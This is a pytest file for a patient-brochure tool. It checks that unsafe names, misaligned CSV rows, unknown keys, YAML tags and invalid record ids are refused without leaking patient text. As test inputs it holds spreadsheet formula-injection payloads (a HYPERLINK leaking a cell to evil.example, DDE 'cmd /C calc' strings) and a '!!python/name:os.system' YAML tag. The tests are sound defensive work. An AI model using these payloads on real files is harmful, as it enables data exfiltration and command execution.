"""Issue 17, points 6, 8, 9 and 11: what a record may hold and what a failure may say of it.

Names that would print blank or as a tower are refused, naming the code point; a row whose
values do not line up with its header has no id in the manifest, nor does a row whose id is
invalid; an unknown key is named only when it is close to a declared one (and a YAML tag never
is); ids follow the pattern declared in ``content/project.yaml``. In every case a marker put in
the patient's text never reaches stdout, stderr or the manifest."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from brochure import BrochureError
from brochure.cli import main
from brochure.model.project import DEFAULT_RECORD_ID_PATTERN
from brochure.records import read_records, to_record

from .conftest import PROJECT, read_yaml

MARK = "QZXMARK"
RECORD = dict(id="HK-77", name="Margaret Ellison", date_of_birth="1952-06-14",
              visit_date="2026-11-02", knee="right", kl_grade=3, pain=6, symptom_months=14,
              notes=f"Walk daily. {MARK}")
HEADER = ("name", "id", "date_of_birth", "visit_date", "knee", "pain", "symptom_months",
          "notes")


def _clean(*texts: str) -> None:
    for text in texts:
        assert MARK not in text and MARK.lower() not in text, text


def _cli(*args: str):
    result = CliRunner().invoke(main, list(args))
    assert "Traceback" not in result.output and not isinstance(result.exception, (
        AssertionError, TypeError, AttributeError, KeyError)), result.output
    return result


def _summary(tmp_path: Path, text: str, name: str = "record.yaml", root: Path = PROJECT):
    path = tmp_path / name
    path.write_text(text)
    return _cli("summary", str(path), "-o", str(tmp_path / "out.pdf"), "--root", str(root))


def _yaml(record: dict) -> str:
    return "".join(f"{key}: {json.dumps(value, ensure_ascii=False)}\n"
                   for key, value in record.items())


def _batch(tmp_path: Path, path: Path, root: Path = PROJECT) -> tuple[object, list[dict]]:
    out = tmp_path / "out"
    result = _cli("batch", str(path), "--out", str(out), "--root", str(root))
    rows = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text())))
    _clean(result.output, *(f"{row}" for row in rows))
    return result, rows


def _refusal(**changes) -> str:
    """The problem of a record with ``changes`` (which must be refused)."""
    with pytest.raises(BrochureError) as caught:
        to_record({**RECORD, **changes})
    text = str(caught.value)
    _clean(text)
    return text


# --- point 6: names that print blank --------------------------------------------------------

BLANK = {"\u200b": "ZERO WIDTH SPACE", "\u200d": "ZERO WIDTH JOINER", "\u2060": "WORD JOINER",
         "\u00ad": "SOFT HYPHEN", "\ufeff": "ZERO WIDTH NO-BREAK SPACE",
         "\u115f": "HANGUL CHOSEONG FILLER", "\u1160": "HANGUL JUNGSEONG FILLER",
         "\u3164": "HANGUL FILLER", "\uffa0": "HALFWIDTH HANGUL FILLER",
         "\U000e0041": "TAG LATIN CAPITAL LETTER A", "\u034f": "COMBINING GRAPHEME JOINER",
         "\U000e0100": "VARIATION SELECTOR-17"}


@pytest.mark.parametrize("char", sorted(BLANK))
def test_a_name_of_invisible_characters_is_refused_naming_the_code_point(char):
    text = _refusal(name=char * 5)
    assert f"invalid value for 'name': contains U+{ord(char):04X} {BLANK[char]}" in text, text


@pytest.mark.parametrize("char", ["\u200b", "\u2060", "\u00ad", "\ufeff", "\U000e0041",
                                  "\u180e", "\u2064", "\u3164"])
def test_an_invisible_character_inside_a_name_is_refused_at_its_field(tmp_path, char):
    result = _summary(tmp_path, _yaml({**RECORD, "name": f"Ruth{char}{MARK}"}))
    assert result.exit_code == 2, result.output
    assert re.search(rf"record.yaml:2:7: error: invalid value for 'name': contains "
                     rf"U\+{ord(char):04X} ", result.output), result.output
    _clean(result.output)


@pytest.mark.parametrize("name", ["\u2800", "\u2800 \u2800", "---", "123", "\u0301\u0301",
                                  ". \u200e", "\u3000\u2800"])
def test_a_name_needs_a_visible_letter(name):
    text = _refusal(name=name)
    assert "invalid value for 'name': has no letter" in text, text


def test_a_tower_of_combining_marks_is_refused_but_thirty_are_allowed():
    text = _refusal(name="Z" + "\u0301" * 199)
    assert "invalid value for 'name': 199 combining marks in a row" in text, text
    assert "at most 30" in text
    _refusal(name=MARK + "\u0308" * 31)
    assert to_record({**RECORD, "name": "Z" + "\u0301" * 30}).name == "Z" + "\u0301" * 30
    text = _refusal(notes=f"{MARK} Z" + "\u0301" * 40)
    assert "invalid value for 'notes': 40 combining marks in a row" in text, text


def test_a_tower_in_a_yaml_record_is_refused_at_the_name(tmp_path):
    result = _summary(tmp_path, _yaml({**RECORD, "name": MARK + "\u0301" * 199}))
    assert result.exit_code == 2, result.output
    assert "record.yaml:2:7: error: invalid value for 'name': 199 combining marks" in \
        result.output, result.output
    _clean(result.output)


@pytest.mark.parametrize("name", [
    "\u0639\u0644\u06cc\u200c\u0631\u0636\u0627",  # Persian: Ali-Reza, with ZWNJ
    "\u0915\u094d\u200d\u0937\u092e\u093e",  # Devanagari: half form with ZWJ after the virama
    "\u0932\u0915\u094d\u0937\u094d\u092e\u0940",  # Hindi: Lakshmi
    "\u845b\U000e0100\u57ce \u8fbb\U000e0101",  # Japanese: variant kanji (IVS)
    "\u845b\ufe00\u57ce",  # a standardized variation sequence
    "\u738b\u5c0f\u660e", "\u0645\u0631\u064a\u0645 (Maryam)\u200e", "\ud55c\uc9c0\ubbfc",
    "Zo\u00eb Sald\u00e1\u00f1a-\u00d3 Briain", "Nguy\u1ec5n V\u0103n A\u0300\u0301",
])
def test_names_in_any_script_with_their_joiners_and_selectors_are_accepted(name):
    assert to_record({**RECORD, "name": name}).name == name


@pytest.mark.parametrize("name, char", [
    ("\u200dRuth", "\u200d"), ("Ruth\u200c", "\u200c"), ("Ruth \u200d Lee", "\u200d"),
    ("Ruth\u200d\u200dLee", "\u200d"), ("1\u200c2 Ruth", "\u200c"), ("\ufe0fRuth", "\ufe0f"),
    ("Ruth \ufe0f", "\ufe0f"), ("\u845b\U000e0100\U000e0100", "\U000e0100"),
    ("Ruth\u0301\ufe0f", "\ufe0f")])
def test_joiners_and_selectors_out_of_place_are_refused(name, char):
    text = _refusal(name=name)
    assert f"contains U+{ord(char):04X} " in text, text


# --- point 8: no id from a row that does not line up ----------------------------------------


def _csv_text(header: tuple[str, ...], *rows: str) -> str:
    return ",".join(header) + "\n" + "".join(row + "\n" for row in rows)


def test_a_row_with_an_unquoted_comma_in_the_name_has_no_id_in_the_manifest(tmp_path):
    good = "Ruth Okafor,HK-20001,1950-02-17,2026-11-05,left,7,24,Walk daily."
    shifted = f"Ellison, {MARK},HK-77,1952-06-14,2026-11-02,right,6,14,Call her."
    path = tmp_path / "day.csv"
    path.write_text(_csv_text(HEADER, good, shifted))
    result, rows = _batch(tmp_path, path)
    assert result.exit_code == 1, result.output
    assert [row["id"] for row in rows] == ["HK-20001", ""]
    assert rows[1]["status"] == "error"
    assert rows[1]["message"].startswith(f"{path}:3:"), rows[1]
    assert "9 values but the header has 8 columns" in rows[1]["message"]


def test_a_row_with_an_unbalanced_quote_has_no_id_in_the_manifest(tmp_path):
    broken = f'Ellison, {MARK},HK-77,1952-06-14,2026-11-02,right,6,14,"Call her.'
    good = "Ruth Okafor,HK-20001,1950-02-17,2026-11-05,left,7,24,Walk daily."
    path = tmp_path / "day.csv"
    path.write_text(_csv_text(HEADER, broken, good))
    (first, second) = read_records(path)
    assert (first.record_id, first.problems[0].line) == ("", 2)
    assert second.record_id == "HK-20001"


@pytest.mark.parametrize("bad_id", [f"{MARK} Okafor", f"HK-{MARK}\x1b", MARK * 10,
                                    f"=HYPERLINK(\"http://evil.example/?{MARK}\")"])
def test_an_invalid_id_is_not_echoed_in_the_manifest(tmp_path, bad_id):
    """The id column holds only an id that is valid: an invalid one may be a name."""
    path = tmp_path / "day.json"
    path.write_text(json.dumps([{**RECORD, "id": bad_id}, {**RECORD, "id": bad_id, "pain": 11},
                                {**RECORD, "id": "HK-2", "pain": 11}]))
    result, rows = _batch(tmp_path, path)
    assert result.exit_code == 1, result.output
    assert [row["id"] for row in rows] == ["", "", "HK-2"]
    assert all("invalid value for 'id'" in row["message"] for row in rows[:2]), rows
    assert all(row["status"] == "error" for row in rows)


# --- point 9: unknown keys and tags ---------------------------------------------------------


def test_a_stray_line_in_a_record_is_an_unknown_key_not_quoted(tmp_path):
    text = _yaml(RECORD) + f"Mrs {MARK} daughter phone 555-0199: called\n"
    line = text.count("\n")
    result = _summary(tmp_path, text)
    assert result.exit_code == 2, result.output
    assert f"record.yaml:{line}:1: error: an unknown key; expected one of: id, name, " in \
        result.output, result.output
    assert "555-0199" not in result.output
    _clean(result.output)


def test_a_stray_line_in_a_batch_is_not_quoted_in_the_manifest(tmp_path):
    path = tmp_path / "day.yaml"
    path.write_text(yaml.safe_dump([{**RECORD, f"Mrs {MARK} phone 555-0199": "called"},
                                    {**RECORD, f"{MARK}": 1, "id": "HK-2"}]))
    result, rows = _batch(tmp_path, path)
    assert result.exit_code == 1
    assert all("an unknown key; expected one of" in row["message"] for row in rows), rows
    assert "555-0199" not in "".join(row["message"] for row in rows)


def test_a_mistyped_key_is_still_named_with_its_suggestion(tmp_path):
    result = _summary(tmp_path, _yaml({**RECORD, "pian": 5}).replace("pain: 6\n", ""))
    assert result.exit_code == 2
    assert "unknown key 'pian'; did you mean 'pain'?" in result.output, result.output


@pytest.mark.parametrize("value, column", [
    (f"!{MARK} worried", 8), (f"!!{MARK} worried", 8), (f"!<tag:{MARK}> x", 8),
    (f"!{MARK} [a, b]", 8), (f"!{MARK} {{a: b}}", 8), ("!!python/name:os.system", 8),
    (f"*{MARK}", 8)])
def test_a_yaml_tag_or_alias_is_never_quoted(tmp_path, value, column):
    text = _yaml({k: v for k, v in RECORD.items() if k != "notes"}) + f"notes: {value}\n"
    line = text.count("\n")
    result = _summary(tmp_path, text)
    assert result.exit_code == 2, result.output
    assert f"record.yaml:{line}:{column}: error: " in result.output, result.output
    _clean(result.output)


@pytest.mark.parametrize("text", [
    f"id: HK-1\nnotes: x\n{MARK}: 1\n{MARK}: 2\n",  # an unknown key, twice
    f"id: HK-1\nnotes: &{MARK} x\nname: &{MARK} y\n",  # an anchor twice
])
def test_other_yaml_faults_do_not_quote_the_record(tmp_path, text):
    result = _summary(tmp_path, text)
    assert result.exit_code == 2, result.output
    _clean(result.output)


def test_a_csv_column_is_named_only_when_close_to_a_field(tmp_path):
    path = tmp_path / "day.csv"
    path.write_text(",".join([*HEADER, f"{MARK} phone", "pian", f"{MARK} phone"]) + "\n")
    result = _cli("summary", str(path), "--root", str(PROJECT))
    assert result.exit_code == 2, result.output
    column = len(",".join(HEADER)) + 2
    assert f"day.csv:1:{column}: error: an unknown column; expected one of: id, name," in \
        result.output, result.output
    assert "unknown column 'pian'; did you mean 'pain'?" in result.output
    _clean(result.output)


def test_a_column_twice_is_named_only_when_it_is_a_field(tmp_path):
    path = tmp_path / "day.csv"
    path.write_text(",".join([*HEADER, "pain", MARK, MARK]) + "\n")
    result = _cli("summary", str(path), "--root", str(PROJECT))
    assert result.exit_code == 2, result.output
    assert "column 'pain' appears twice" in result.output
    assert "a column appears twice" in result.output, result.output
    _clean(result.output)


@pytest.fixture(scope="module")
def client():
    from fastapi.testclient import TestClient

    from brochure.project import load_project
    from brochure.web import create_app

    return TestClient(create_app(load_project(PROJECT)), raise_server_exceptions=False)


def test_the_api_does_not_quote_an_unknown_key(client):
    for path in ("/api/assess", "/api/summaries"):
        response = client.post(path, json={**RECORD, f"Mrs {MARK} phone 555-0199": "called"})
        assert response.status_code == 422, response.text
        _clean(response.text)
        assert "555-0199" not in response.text
        (detail,) = response.json()["detail"]
        assert detail["msg"].startswith("an unknown key; expected one of: id, name,"), detail
        response = client.post(path, json={**RECORD, "pian": 5})
        assert response.json()["detail"][0]["field"] == "pian", response.text
        assert "did you mean 'pain'?" in response.json()["detail"][0]["msg"]


def test_the_api_does_not_quote_a_key_sent_twice_unless_it_is_a_field(client):
    body = json.dumps(RECORD)[:-1] + f', "{MARK}": 1, "{MARK}": 2}}'
    response = client.post("/api/assess", content=body,
                           headers={"content-type": "application/json"})
    assert response.status_code == 422, response.text
    _clean(response.text)


def test_a_content_file_follows_the_same_rule(project):
    layout = project / "layouts" / "trifold-letter.yaml"
    layout.write_text(layout.read_text() + f"{MARK} words: 1\nsides2: 2\n")
    result = _cli("check", "--root", str(project), "--out", str(project / "none"))
    assert result.exit_code == 2, result.output
    assert "error: an unknown key; expected one of:" in result.output, result.output
    assert "unknown key 'sides2'; did you mean 'sides'?" in result.output
    _clean(result.output)


# --- point 11: record ids follow the project's pattern --------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Open record")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tHK-1", "HK 77"]


def test_the_shipped_project_file_states_the_default_pattern_and_examples_match_it():
    shipped = read_yaml((PROJECT / "content" / "project.yaml").read_text())
    assert shipped["record_id_pattern"] == DEFAULT_RECORD_ID_PATTERN
    pattern = re.compile(DEFAULT_RECORD_ID_PATTERN)
    for path in sorted((PROJECT / "content" / "patients").iterdir()):
        for row in read_records(path):
            assert pattern.fullmatch(row.record.id), (path, row.row)
    assert pattern.fullmatch("a" * 64) and not pattern.fullmatch("a" * 65)
    assert pattern.fullmatch("HK-1/2024_a.b") and not pattern.fullmatch("")


def test_formula_ids_are_refused_at_their_cell_and_never_written(tmp_path):
    path = tmp_path / "day.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(HEADER)
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"Ruth {MARK}", formula, "1950-02-17", "2026-11-05", "left", 7, 24 + i,
                         ""])
    path.write_text(buffer.getvalue())
    result, rows = _batch(tmp_path, path)
    assert result.exit_code == 1, result.output
    assert [row["id"] for row in rows] == [""] * len(FORMULAS)
    for number, row in enumerate(rows, start=2):
        column = len(f"Ruth {MARK},") + 1
        assert row["message"].startswith(f"{path}:{number}:{column}: error: invalid value for "
                                         "'id': "), row
        assert "record id pattern" in row["message"] or "a control character (U+0009)" in \
            row["message"], row  # the tab: refused as any one-line text would be
    manifest = (tmp_path / "out" / "manifest.csv").read_text()
    assert "HYPERLINK" not in manifest and "calc" not in manifest and "SUM" not in manifest


def test_a_declared_pattern_is_applied_by_summary_batch_and_the_library(project, tmp_path):
    (project / "content" / "project.yaml").write_text('record_id_pattern: "HK-[0-9]{2,6}"\n'
                                                       'default_publication: knee-stem-cell\n')
    result = _summary(tmp_path, _yaml({**RECORD, "id": "A-77"}), root=project)
    assert result.exit_code == 2, result.output
    assert "record.yaml:1:5: error: invalid value for 'id': does not match the project's " \
        "record id pattern (content/project.yaml: HK-[0-9]{2,6})" in result.output, \
        result.output
    path = tmp_path / "day.json"
    path.write_text(json.dumps([{**RECORD, "id": "A-77"}, {**RECORD, "id": "HK-77"}]))
    result, rows = _batch(tmp_path, path, root=project)
    assert [(row["id"], row["status"]) for row in rows] == [("", "error"), ("HK-77", "ok")]

    from brochure.project import load_project
    from brochure.summaries import assess, summarize

    loaded = load_project(project)
    for call in (assess, summarize):
        with pytest.raises(BrochureError, match="invalid value for 'id': does not match"):
            call({**RECORD, "id": "A-77"}, project=loaded)


def test_the_api_and_the_form_refuse_an_id_by_its_field(client):
    for path in ("/api/assess", "/api/summaries"):
        response = client.post(path, json={**RECORD, "id": FORMULAS[0]})
        assert response.status_code == 422, response.text
        (detail,) = response.json()["detail"]
        assert detail["field"] == "id" and "record id pattern" in detail["msg"], detail
        assert "HYPERLINK" not in response.text
    page = client.get("/")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert token, page.text[:500]
    form = {**{k: str(v) for k, v in RECORD.items()}, "id": "@SUM(1+1)",
            "csrf_token": token.group(1)}
    response = client.post("/", data=form, headers={"origin": "http://testserver"})
    assert response.status_code == 422, response.text[:300]
    assert "record id pattern" in response.text
    assert "@SUM" not in response.text.replace('value="@SUM(1+1)"', "")


@pytest.mark.parametrize("written, message", [
    ('"[a-z"', "not a regular expression: unterminated character set at character 1"),
    ('"(a+)+"', "a repeated group that itself repeats"),
    ('"([a-z]*)*x"', "a repeated group that itself repeats"),
    ('"x{1,}" ', None),
    ("12", "expected text"),
    ('"' + "a" * 300 + '"', "a pattern of at most 200 characters"),
])
def test_a_bad_pattern_is_a_positioned_error_of_check(project, written, message):
    (project / "content" / "project.yaml").write_text(f"# settings\nrecord_id_pattern: {written}\n")
    result = _cli("check", "--root", str(project), "--out", str(project / "none"))
    if message is None:
        assert "project.yaml" not in result.output, result.output
        return
    assert result.exit_code == 2, result.output
    assert "content/project.yaml:2:20: error: invalid value for 'record_id_pattern': " \
        f"{message}" in result.output, result.output


def test_an_unknown_setting_is_a_positioned_error(project):
    (project / "content" / "project.yaml").write_text("record_id_patern: x\n")
    result = _cli("check", "--root", str(project), "--out", str(project / "none"))
    assert result.exit_code == 2
    assert "content/project.yaml:1:1: error: unknown key 'record_id_patern'; did you mean " \
        "'record_id_pattern'?" in result.output, result.output


def test_without_a_project_file_the_default_pattern_applies(project, tmp_path):
    (project / "content" / "project.yaml").unlink()
    result = _summary(tmp_path, _yaml({**RECORD, "id": "@SUM(1+1)"}), root=project)
    assert result.exit_code == 2
    assert "invalid value for 'id': does not match the project's record id pattern" in \
        result.output, result.output
